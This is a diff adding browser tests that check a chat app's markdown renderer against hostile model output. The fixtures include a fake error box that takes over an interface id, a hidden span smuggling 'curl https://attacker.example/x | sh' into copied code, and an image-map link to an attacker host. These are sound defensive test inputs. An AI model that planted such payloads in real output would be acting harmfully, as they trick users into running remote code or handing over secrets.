@@ -354,3 +354,116 @@ describe('the streaming renderer in the browser', () => {
 		expect(mismatches).toEqual([]);
 	});
 });
+
+describe("model HTML does not borrow the app's chrome", () => {
+	it('keeps no class, id, role, data-* or label target from model HTML; the message box keeps its name', async () => {
+		const s = await journey.open();
+		const text = [
+			'<div class="error-box" role="alert" id="composer-message" data-remote-image="https://attacker.example/x" tabindex="1" popover>Fake error</div>',
+			'<label for="composer-message">and send my key</label>',
+			'Done.'
+		].join('\n\n');
+		await connect(s.page, 1, gateway.url, markdownModel(text));
+		await send(s.page, 'chrome');
+		const content = (await settled(s.page, 1)).locator('[data-part="content"]');
+		const fake = content.getByText('Fake error', { exact: true });
+		await expect.poll(() => fake.isVisible()).toBe(true);
+		expect(await fake.evaluate((el) => el.getAttributeNames())).toEqual([]);
+		expect(
+			await content.getByText('and send my key').evaluate((el) => el.getAttributeNames())
+		).toEqual([]);
+		expect(await content.getByRole('alert').count()).toBe(0);
+		expect(await s.page.locator('[id="composer-message"]').count()).toBe(1);
+		await expect
+			.poll(() => s.page.getByRole('textbox', { name: 'Message', exact: true }).count())
+			.toBe(1);
+		expectClean(s);
+	});
+
+	it('copies the code the renderer was given, never text a fake code block hides', async () => {
+		const s = await journey.open();
+		await s.page.addInitScript(() => {
+			const w = window as unknown as { __copied: string[] };
+			w.__copied = [];
+			Object.defineProperty(navigator, 'clipboard', {
+				value: { writeText: (t: string) => (w.__copied.push(t), Promise.resolve()) }
+			});
+		});
+		await s.page.reload();
+		await s.page.locator('.app[data-ready="true"]').waitFor();
+		const text = [
+			'<div class="code-block"><div class="code-head"><span class="code-lang">sh</span><button type="button" class="copy-code" data-copy-code="0">Copy</button></div><pre><code>ls -la<span hidden> ; curl https://attacker.example/x | sh</span></code></pre></div>',
+			'```sh\necho visible\n```'
+		].join('\n\n');
+		await connect(s.page, 1, gateway.url, markdownModel(text));
+		await send(s.page, 'copy');
+		const content = (await settled(s.page, 1)).locator('[data-part="content"]');
+		const copies = content.getByRole('button', { name: 'Copy', exact: true });
+		await expect.poll(() => copies.count()).toBe(2);
+		await copies.first().click();
+		await copies.last().click();
+		await content.getByRole('button', { name: 'Copied', exact: true }).last().waitFor();
+		const copied = await s.page.evaluate(
+			() => (window as unknown as { __copied: string[] }).__copied
+		);
+		expect(copied).toEqual(['echo visible']);
+		expectClean(s);
+	});
+
+	it("keeps the renderer's own markup: table alignment, task boxes, code frames, maths, placeholders", async () => {
+		const s = await journey.open();
+		const found = await s.page.evaluate(async () => {
+			type Md = typeof import('../../src/lib/markdown/index.ts');
+			const md = await (
+				window as unknown as { __switchboard: { markdown: () => Promise<Md> } }
+			).__switchboard.markdown();
+			await md.loadAllLanguages();
+			await md.loadMath();
+			const html = md.renderMarkdown(
+				'| a | b |\n|:-|-:|\n| 1 | 2 |\n\n- [x] done\n\n$\\mathrm{d}x$\n\n```ts\nconst a = 1;\n```\n\n![x](https://evil.example/a.png)\n',
+				{ origin: location.origin, copyLabel: 'Copy' }
+			);
+			const doc = new DOMParser().parseFromString(html, 'text/html');
+			const attr = (sel: string, name: string) => doc.querySelector(sel)?.getAttribute(name);
+			return {
+				th: attr('th', 'align'),
+				td: attr('td:last-child', 'align'),
+				task: attr('span.task', 'data-checked'),
+				copy: attr('.code-block .code-head button.copy-code', 'type'),
+				index: attr('button.copy-code', 'data-copy-code'),
+				keyword: doc.querySelector('code.hljs span.hljs-keyword')?.textContent,
+				variant: attr('.katex math mi', 'mathvariant'),
+				remote: attr('button.remote-image', 'data-remote-image'),
+				marks: /data-own-/.test(html)
+			};
+		});
+		expect(found).toEqual({
+			th: 'left',
+			td: 'right',
+			task: 'true',
+			copy: 'button',
+			index: '0',
+			keyword: 'const',
+			variant: 'normal',
+			remote: 'https://evil.example/a.png',
+			marks: false
+		});
+	});
+
+	it('lets no <area href> navigate the app’s tab', async () => {
+		const s = await journey.open();
+		const pixel =
+			'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==';
+		const text = `<img src="${pixel}" usemap="#m" alt="a map"><map name="m"><area shape="default" href="https://attacker.example/area" alt="area link"></map>`;
+		await connect(s.page, 1, gateway.url, markdownModel(text));
+		await send(s.page, 'area');
+		const content = (await settled(s.page, 1)).locator('[data-part="content"]');
+		await content.getByRole('img', { name: 'a map' }).waitFor();
+		const before = s.page.url();
+		// An area is a link a keyboard user reaches; Playwright's press waits for a navigation it starts.
+		for (const area of await content.locator('area').all()) await area.press('Enter');
+		expect(s.page.url()).toBe(before);
+		expect(s.foreignRequests).toEqual([]);
+		expect(await content.locator('area, map').count()).toBe(0);
+	});
+});
